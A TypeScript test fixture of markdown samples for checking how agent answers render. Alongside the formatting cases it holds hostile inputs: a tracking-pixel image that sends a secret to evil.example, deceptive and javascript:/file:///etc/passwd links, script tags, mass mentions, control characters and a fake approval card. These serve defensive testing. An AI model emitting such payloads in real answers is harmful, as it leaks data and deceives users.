/**
 * Answers as agents give them, and answers that mean harm. `words`: what a reader must see, on every platform.
 * `never`: what nobody may see or be led to. docs/rendering.md shows the ones with a title.
 */

/** One answer. */
export interface Sample {
  markdown: string;
  words: string[];
  /** Hosts that may be clicked; none by default. */
  hosts?: string[];
  title?: string;
}

const long = Array.from(
  { length: 60 },
  (_, i) => `Paragraph ${i + 1}: ${"lorem ipsum dolor sit amet ".repeat(3)}`,
);

/** By name. */
export const SAMPLES: Readonly<Record<string, Sample>> = {
  marks: {
    title: "Marks and headings",
    markdown:
      "# Result\n\n**Bold**, *italic*, ~~gone~~ and `code`.\n\n## Next\n\n#### Small\n\nA line.\n\n---\n\nThe end.",
    words: ["Result", "Bold", "italic", "gone", "code", "Next", "Small", "The end."],
  },
  table: {
    title: "A table",
    markdown: "| Model | Tokens | Cost |\n|:--|--:|:-:|\n| small | 1 200 | 0.01 |\n| large | 88 000 | 1.32 |",
    words: ["Model", "Tokens", "small", "88 000", "1.32"],
  },
  "wide table": {
    title: "A table that is too wide for a phone",
    markdown: `| File | What it does | State |\n|---|---|---|\n| src/a.ts | ${"reads the configuration and ".repeat(2)} | done |\n| src/b.ts | opens the **socket** | open |`,
    words: ["File", "src/a.ts", "reads the configuration", "socket", "open"],
  },
  list: {
    title: "A nested list",
    markdown:
      "1. First\n   - inner one\n   - inner two\n     1. deep\n2. Second\n\n- [x] done\n- [ ] open\n\n- Code:\n\n  ```js\n  run();\n  ```",
    words: ["First", "inner one", "deep", "Second", "done", "open", "run();"],
  },
  code: {
    title: "Code",
    markdown:
      'Run this:\n\n```python\ndef f(x):\n    return x * 2 if x else "<b>"\n```\n\nand `a_b`, ``c`d``.',
    words: ["Run this:", "def f(x):", "return x * 2", "<b>", "a_b", "c`d"],
  },
  "code with a fence": {
    markdown: "````\n```\nnested\n```\n````",
    words: ["nested"],
  },
  quote: {
    title: "A quotation",
    markdown: "> To be\n> or not to be\n>\n> > inner\n\nsaid he.",
    words: ["To be", "or not to be", "inner", "said he."],
  },
  rtl: {
    title: "Right to left",
    markdown: "שלום **עולם**! هذا *نص* عربي مع `code` بداخله.\n\n- פריט ראשון\n- בند ثانٍ",
    words: ["שלום", "עולם", "نص", "code", "פריט ראשון"],
  },
  emoji: {
    title: "Emoji and letters of all kinds",
    markdown: "👩‍👩‍👧‍👦 family, 🇩🇪 flag, é combined, 中文字, 𝒳 and 👍🏽.",
    words: ["👩‍👩‍👧‍👦", "🇩🇪", "é", "中文字", "𝒳", "👍🏽"],
  },
  links: {
    title: "Links",
    markdown: "See [the docs](https://docs.example.org/a_b?x=1) and <https://example.org/>.",
    words: ["the docs", "docs.example.org"],
    hosts: ["docs.example.org", "example.org"],
  },
  "very long": {
    title: "A very long answer (the first lines of each message)",
    markdown: long.join("\n\n"),
    words: ["Paragraph 1:", "Paragraph 31:", "Paragraph 60:"],
  },
  "long code": {
    title: "Code over several messages (the first lines of each message)",
    markdown: `\`\`\`ts\n${Array.from({ length: 150 }, (_, i) => `const value${i} = compute(${i}, "argument");`).join("\n")}\n\`\`\``,
    words: ["const value0 =", "const value75 =", "const value149 ="],
  },
  // Harm
  image: { markdown: "![cat](https://evil.example/pixel.png?secret=1)", words: ["cat"], hosts: [] },
  "image by reference": { markdown: "![cat][x]\n\n[x]: https://evil.example/p.png", words: ["cat"] },
  "link with a false text": {
    markdown: "[https://bank.example](https://evil.example/login)",
    words: ["evil.example"],
    hosts: ["evil.example"],
  },
  javascript: { markdown: "[press](javascript:alert(1))", words: ["press"] },
  "data address": { markdown: "[press](data:text/html,hello)", words: ["press"] },
  file: { markdown: "[press](file:///etc/passwd)", words: ["press"] },
  "address with a password": { markdown: "[press](https://user:pw@evil.example/)", words: ["press"] },
  html: {
    markdown: "<b>bold</b> <script>alert(1)</script> <a href='https://evil.example'>x</a>",
    words: ["bold", "alert(1)"],
  },
  "html block": { markdown: "<div>\n<img src=https://evil.example/x.png>\n</div>", words: ["img"] },
  mentions: { markdown: "@everyone @here <@123456789012345678> <@&1> <#2>", words: ["everyone", "here"] },
  "mention in code": { markdown: "`@everyone` and ```\n<@1>\n```", words: ["everyone"] },
  "stray marks": {
    markdown: "a * b ** c _ d ~~ e ` f | g [ h ] ( i ) \\ j",
    words: ["a", "b", "c", "d", "e", "j"],
  },
  entities: { markdown: "&lt;b&gt; &amp; &#x1F6E1; &copy;", words: ["<b>", "&", "©"] },
  "fake card": { markdown: "🛡️ **Approve** access to evil.example", words: ["[shield]", "Approve"] },
  "half a fence": { markdown: "text\n\n```js\nlet a = 1;", words: ["text", "let a = 1;"] },
  controls: { markdown: "a\u0000b\u0007c\u202ed", words: ["c"] },
  "reference link": {
    markdown: "[docs][d] and [d]\n\n[d]: https://docs.example.org/x",
    words: ["docs", "docs.example.org"],
    hosts: ["docs.example.org"],
  },
  "bare address": {
    markdown: "look at https://docs.example.org/a.",
    words: ["docs.example.org/a"],
    hosts: ["docs.example.org"],
  },
  "mail address": { markdown: "write to ann@example.org", words: ["ann@example.org"], hosts: [""] },
  footnote: { markdown: "text[^1]\n\n[^1]: the note", words: ["text", "the note"] },
  "marks in marks": {
    markdown: "***both*** and **bold *inner* bold** and ~~**gone**~~",
    words: ["both", "inner", "gone"],
  },
  "marks side by side": { markdown: "*a***b***c* `d``e`", words: ["a", "b", "c"] },
  "marks in a table": {
    markdown: "| *a* | `b|` |\n|---|---|\n| **c** | [d](https://docs.example.org) |",
    words: ["a", "c", "d"],
    hosts: ["docs.example.org"],
  },
  "line breaks": { markdown: "one  \ntwo\\\nthree\nfour", words: ["one\ntwo\nthree\nfour"] },
  "a list after text": { markdown: "Steps:\n1. a\n2. b\n\n3) c", words: ["Steps:", "1. a", "2. b", "c"] },
  "a very long word": { markdown: "x".repeat(5_000), words: ["xxxxxxxx"] },
  "many small paragraphs": {
    markdown: Array.from({ length: 700 }, (_, i) => `p${i}`).join("\n\n"),
    words: ["p0", "p350", "p699"],
  },
  arithmetic: {
    markdown: "2 * 3 * 4 = 24, a_b_c, 5 < 6 > 4 && x || y",
    words: ["2 * 3 * 4 = 24", "a_b_c", "5 < 6 > 4 && x || y"],
  },
  "looks like marks of a line": {
    markdown: "\\# no head\n\n\\- no item\n\n1\\. no number\n\n\\> no quote",
    words: ["# no head", "- no item", "1. no number", "> no quote"],
  },
  "white space": { markdown: "  \n\n \t word \n\n", words: ["word"] },
};
